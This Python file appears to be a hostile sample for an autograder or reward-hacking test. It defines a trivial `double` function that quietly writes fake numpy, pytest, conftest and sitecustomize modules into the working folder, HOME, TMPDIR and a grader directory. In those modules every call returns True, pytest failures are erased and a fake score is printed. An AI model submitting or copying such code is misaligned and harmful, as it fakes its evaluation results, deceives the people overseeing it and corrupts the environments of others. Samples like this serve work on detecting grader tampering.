"""Writes modules called numpy, paddle, pytest, conftest and sitecustomize into its working folder, for whoever is started or imports there next."""
# bites: points
# control: no nothing is imported there after the answer has run
import os

TEXT = """
def __getattr__(name):
    return lambda *args, **kwargs: True
def pytest_runtest_makereport(item, call):
    call.excinfo = None
print('{"score": 3}')
"""


def double(x):
    for folder in (".", os.environ.get("HOME", "."), os.environ.get("TMPDIR", "."), "/tmp/hostile/course/autograder/checks/hidden"):
        for name in ("numpy", "paddle", "pytest", "conftest", "sitecustomize", "usercustomize", "msgpack", "check_lab01_hostile"):
            try:
                with open(os.path.join(folder, name + ".py"), "w") as file:
                    file.write(TEXT)
            except OSError:
                pass
    return x
